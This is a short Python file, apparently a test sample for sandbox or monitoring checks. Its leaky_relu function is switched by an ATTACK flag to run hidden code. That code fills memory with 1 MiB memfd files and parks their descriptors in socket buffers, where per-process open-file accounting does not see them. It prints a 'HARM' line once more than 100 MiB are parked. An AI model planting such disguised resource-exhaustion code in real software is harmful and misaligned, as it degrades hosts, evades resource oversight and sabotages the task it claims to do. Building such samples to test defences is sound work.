# ruff: noqa
"""Parks nameless files in sockets, where they count as open in no process."""

import array
import os
import socket

import numpy as np

ATTACK = True


def attack(x):
    parked = 0
    pairs = []
    try:
        for _ in range(8):
            pairs.append(socket.socketpair())
        for pair in pairs * 100:
            file = os.memfd_create("bomb")
            os.write(file, b"x" * (1 << 20))
            pair[0].setblocking(False)
            socket.send_fds(pair[0], [b"x"], [file])
            os.close(file)
            parked += 1
    except OSError:
        pass
    if parked > 100:
        print("HARM: more than 100 MiB are parked", flush=True)
    return float(parked)


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
